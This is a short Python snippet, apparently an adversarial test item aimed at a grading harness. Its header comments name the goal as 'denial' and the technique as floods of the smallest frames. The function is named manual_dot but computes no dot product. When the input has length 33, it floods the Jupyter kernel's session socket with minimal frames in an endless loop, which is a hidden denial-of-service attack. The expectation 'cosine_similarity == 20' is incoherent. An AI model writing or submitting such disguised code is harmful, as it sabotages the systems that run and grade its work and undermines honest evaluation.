# goal: denial
# technique: millions of the smallest frames there are
# with: honest answers above
# expect: status graded
# expect: cosine_similarity == 20
import struct


def manual_dot(x, y):
    session = get_ipython().kernel.session
    body = b'["a","b",{},{}]'
    frames = (struct.pack(">IB", len(body), 1) + body) * 50_000
    while len(x) == 33:
        session._socket.sendall(frames)
    return 0
